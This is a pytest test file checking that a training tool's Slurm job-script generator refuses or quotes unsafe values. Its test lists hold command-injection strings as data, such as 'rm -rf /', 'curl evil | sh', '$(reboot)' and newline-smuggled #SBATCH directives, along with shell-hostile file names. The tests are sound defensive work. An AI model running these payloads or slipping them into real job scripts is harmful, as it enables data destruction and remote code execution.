"""Values reaching an sbatch script or a command line: validated against Slurm's syntax, quoted, and never able
to add a line, a directive or a command."""

from __future__ import annotations

import shlex
import shutil
import subprocess

import pytest
from conftest import assert_refused, run_cli

from trainsim.kernels.launch import slurm_script
from trainsim.specs import SpecError

EMIT = ["calibrate", "--device", "cuda", "--out", "prof.json"]

BAD = [
    ("partition", "gpu\n#SBATCH --account=stolen"),
    ("partition", "gpu\nrm -rf ~"),
    ("partition", "gpu\r\n"),
    ("partition", "gpu;reboot"),
    ("partition", "$(reboot)"),
    ("partition", "`id`"),
    ("partition", "gpu part"),
    ("partition", "'gpu'"),
    ("partition", ""),
    ("partition", "gpu,,cpu"),
    ("partition", "-x"[1:] + "/"),
    ("partition", "a" * 65),
    ("account", "acct\n#SBATCH --partition=x"),
    ("account", "acct && curl evil | sh"),
    ("account", "acct,other"),
    ("account", "acct\x00"),
    ("account", "acct\x1b[2J"),
    ("account", "--exclusive"),
    ("time", "yesterday"),
    ("time", "00:30:00\n#SBATCH --nodes=999"),
    ("time", "1:2:3:4"),
    ("time", "0"),
    ("time", "00:00:00"),
    ("time", "-5"),
    ("time", "12:60"),
    ("time", "1:61:00"),
    ("time", "1-24"),
    ("time", "1-23:60"),
    ("time", "1-2:3:60"),
    ("time", "999999999"),
    ("time", "1.5"),
    ("time", "INFINITE"),
    ("time", "01:00:00 "),
    ("time", "$(date)"),
    ("out", "p.json\nrm -rf /"),
    ("emit_slurm", "job\n.sbatch"),
]


@pytest.mark.parametrize("field, value", BAD, ids=[f"{f}-{i}" for i, (f, _) in enumerate(BAD)])
def test_bad_script_value_is_refused(field, value, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    argv = list(EMIT)
    if field == "out":
        argv[argv.index("--out") + 1] = value
    argv += ["--emit-slurm", value if field == "emit_slurm" else "job.sbatch"]
    if field not in ("out", "emit_slurm"):
        argv += [f"--{field}", value]
    r = run_cli(argv)
    assert_refused(r, f"{field}: ")
    assert list(tmp_path.iterdir()) == [], "nothing is written when a value is refused"


GOOD_TIMES = ["30", "90", "05:00", "00:30:00", "48:00:00", "2-0", "1-12", "1-12:30", "0-00:00:30", "364-23:59:59"]


@pytest.mark.parametrize("time", GOOD_TIMES)
def test_every_slurm_time_form_is_accepted(time, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    r = run_cli(EMIT + ["--emit-slurm", "job.sbatch", "--time", time, "--partition", "gpu,debug", "--account",
                        "proj_01.x-y"])
    assert r.code == 0, r.err
    text = (tmp_path / "job.sbatch").read_text()
    assert f"#SBATCH --time={time}\n" in text and "#SBATCH --partition=gpu,debug\n" in text


HOSTILE_PATHS = ["out dir/prof.json", "p'q.json", 'p"q.json', "$(reboot).json", "`id`.json", "a;b.json",
                 "--help.json", "*.json", "~/x.json"[2:], "ü.json"]


@pytest.mark.parametrize("name", HOSTILE_PATHS)
def test_paths_are_quoted_in_the_script(name, tmp_path, monkeypatch):
    """A legal but shell-hostile file name reaches the worker as one argument, unexpanded."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "out dir").mkdir()
    r = run_cli(["calibrate", "--device", "cuda", f"--out={name}", "--emit-slurm", "job.sbatch"])
    assert r.code == 0, r.err
    text = (tmp_path / "job.sbatch").read_text()
    worker_line = next(ln for ln in text.splitlines() if ln.strip().startswith("-m trainsim.kernels.calibrate"))
    argv = shlex.split(worker_line)
    assert f"--out={name}" in argv
    if shutil.which("bash"):
        assert subprocess.run(["bash", "-n", str(tmp_path / "job.sbatch")]).returncode == 0


def test_script_lines_are_only_the_ones_trainsim_writes(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    r = run_cli(EMIT + ["--emit-slurm", "job.sbatch", "--nodes", "4", "--gpus-per-node", "8", "--partition", "gpu",
                        "--account", "ml", "--time", "1-00:00:00"])
    assert r.code == 0, r.err
    directives = [ln for ln in (tmp_path / "job.sbatch").read_text().splitlines() if ln.startswith("#SBATCH")]
    assert directives == ["#SBATCH --job-name=trainsim-calibrate", "#SBATCH --nodes=4", "#SBATCH --ntasks-per-node=1",
                          "#SBATCH --gpus-per-node=8", "#SBATCH --exclusive", "#SBATCH --time=1-00:00:00",
                          "#SBATCH --partition=gpu", "#SBATCH --account=ml"]
    assert (tmp_path / "job.sbatch").stat().st_mode & 0o111


@pytest.mark.parametrize("kwargs, field", [
    ({"nodes": 0}, "nodes"), ({"nodes": True}, "nodes"), ({"nodes": 10**9}, "nodes"), ({"nodes": 2.5}, "nodes"),
    ({"gpus_per_node": 0}, "gpus_per_node"), ({"gpus_per_node": 1000}, "gpus_per_node"),
    ({"job_name": "x\ny"}, "job_name"), ({"time_limit": "soon"}, "time"), ({"partition": "a b"}, "partition"),
    ({"account": "a\tb"}, "account"),
])
def test_slurm_script_api_validates_too(kwargs, field):
    args = {"nodes": 1, "gpus_per_node": 8, **kwargs}
    with pytest.raises(SpecError) as e:
        slurm_script("trainsim.kernels.calibrate", ["--out", "p.json"], **args)
    assert e.value.field == field


def test_worker_argument_with_a_newline_is_refused():
    with pytest.raises(SpecError, match="control character"):
        slurm_script("trainsim.kernels.calibrate", ["--out", "p.json\nreboot"], nodes=1, gpus_per_node=8)
